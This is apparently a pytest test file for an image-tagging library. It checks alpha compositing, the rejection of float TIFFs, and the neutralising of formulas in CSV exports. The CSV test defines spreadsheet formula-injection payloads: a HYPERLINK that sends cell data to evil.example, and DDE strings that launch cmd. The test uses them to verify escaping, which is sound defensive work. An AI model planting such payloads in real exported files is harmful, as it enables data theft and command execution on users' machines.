"""Transparent images are composited onto white; float TIFFs are named; CSV cells cannot be formulas."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from itagger_lib.errors import UnsupportedFormatError
from itagger_lib.imaging import ALPHA_BACKGROUND, decode_rgb, probe
from itagger_lib.science.metrics import params_hash


def _hidden_red(path, mode: str = "RGBA") -> None:
    """A red image fully transparent except a black square: what shows is a black square on white."""
    rgba = np.zeros((64, 96, 4), np.uint8)
    rgba[..., 0] = 255  # red under the transparency
    rgba[16:48, 32:64] = (0, 0, 0, 255)
    Image.fromarray(rgba, "RGBA").convert(mode).save(path)


@pytest.mark.parametrize(
    ("name", "mode"), [("a.png", "RGBA"), ("b.webp", "RGBA"), ("c.tif", "RGBA"), ("d.png", "LA")]
)
def test_transparent_pixels_are_composited_onto_white(tmp_path, name, mode):
    path = tmp_path / name
    _hidden_red(path, mode)
    rgb = decode_rgb(path)
    assert rgb.shape == (64, 96, 3) and rgb.dtype == np.uint8
    assert tuple(rgb[0, 0]) == ALPHA_BACKGROUND == (255, 255, 255)
    assert tuple(rgb[32, 48]) == (0, 0, 0)


def test_a_palette_png_with_a_transparent_colour_is_composited(tmp_path):
    image = Image.new("P", (8, 8), 1)
    image.putpalette([0, 0, 0, 255, 0, 0])
    image.info["transparency"] = 1
    image.save(tmp_path / "p.png", transparency=1)
    assert tuple(decode_rgb(tmp_path / "p.png")[0, 0]) == (255, 255, 255)


def test_science_measures_what_is_shown_and_the_background_is_in_the_parameters_hash(
    workspace, tmp_path, monkeypatch
):
    folder = tmp_path / "in"
    folder.mkdir()
    _hidden_red(folder / "rgba.png")
    Image.fromarray(decode_rgb(folder / "rgba.png")).save(folder / "flat.png")  # what a viewer shows
    workspace.ingest(folder, progress=False)
    workspace.run_science(progress=False, params={"families": ["colour"]})
    table = workspace.metrics(composites=False)
    table.index = workspace.images().loc[table.index, "source_name"].values
    numeric = table.select_dtypes("number")
    assert len(numeric.columns) > 5
    pd.testing.assert_series_equal(numeric.loc["rgba.png"], numeric.loc["flat.png"], check_names=False)
    white = params_hash()
    monkeypatch.setattr("itagger_lib.science.metrics.ALPHA_BACKGROUND", (0, 0, 0))
    assert params_hash() != white


def test_float32_tiffs_say_what_they_are_and_what_to_do(workspace, tmp_path):
    import cv2

    folder = tmp_path / "in"
    folder.mkdir()
    Image.fromarray(np.random.default_rng(1).random((20, 30), dtype=np.float32), "F").save(
        folder / "grey.tif"
    )
    cv2.imwrite(str(folder / "colour.tif"), np.random.default_rng(2).random((20, 30, 3), dtype=np.float32))
    for name in ("grey.tif", "colour.tif"):
        with pytest.raises(UnsupportedFormatError, match=r"floating-point .*convert it to an 8- or 16-bit"):
            probe(folder / name)
        with pytest.raises(UnsupportedFormatError, match="floating-point"):
            decode_rgb(folder / name)  # one stored before this release: science says the same
    report = workspace.ingest(folder, progress=False)
    assert not report.added and all("floating-point" in reason for _, reason in report.failed)
    cv2.imwrite(
        str(folder / "deep.tif"), (np.random.default_rng(3).random((20, 30, 3)) * 65535).astype(np.uint16)
    )
    assert probe(folder / "deep.tif").format == "TIFF" and decode_rgb(folder / "deep.tif").dtype == np.uint8


CONTINUOUS = """\
name: csvtest
version: "1"
attributes:
  - key: warmth
    question: How warm?
    type: continuous
    min: -5.0
    max: 5.0
  - key: kind
    question: Which kind?
    type: categorical
    levels:
      - {value: "=1+1", label: Formula}
      - {value: plain, label: Plain}
"""

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_csv_exports_neutralise_formulas_and_keep_numbers(workspace, sample_dir, tmp_path):
    workspace.ingest(sample_dir, progress=False)
    workspace.load_codebook(CONTINUOUS)
    ids = [int(i) for i in workspace.images().index[:3]]
    rows = [
        {
            "image": ids[i],
            "rater": HOSTILE[i],
            "attribute": "warmth",
            "value": -1.5 - i,
            "note": HOSTILE[2 - i],
        }
        for i in range(3)
    ] + [{"image": ids[0], "rater": "-r", "attribute": "kind", "value": "=1+1", "note": "\tTAB"}]
    workspace.add_ratings(pd.DataFrame(rows))
    files = workspace.export(tmp_path / "out", format="csv")
    cells = []
    for path in files:
        if path.suffix == ".csv":
            with open(path, newline="", encoding="utf-8") as handle:
                cells += [cell for row in csv.reader(handle) for cell in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert not risky, risky
    for text in HOSTILE:
        assert "'" + text in cells
    assert "'=1+1" in cells and "'-r" in cells and "'\tTAB" in cells
    with open(next(p for p in files if p.name == "ratings.csv"), newline="", encoding="utf-8") as handle:
        values = {row["value"] for row in csv.DictReader(handle)}
    assert {"-1.5", "-2.5", "-3.5"} <= values  # negative numbers stay numbers
    assert set(workspace.ratings()["rater"]) >= set(HOSTILE)  # the database keeps the original text


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
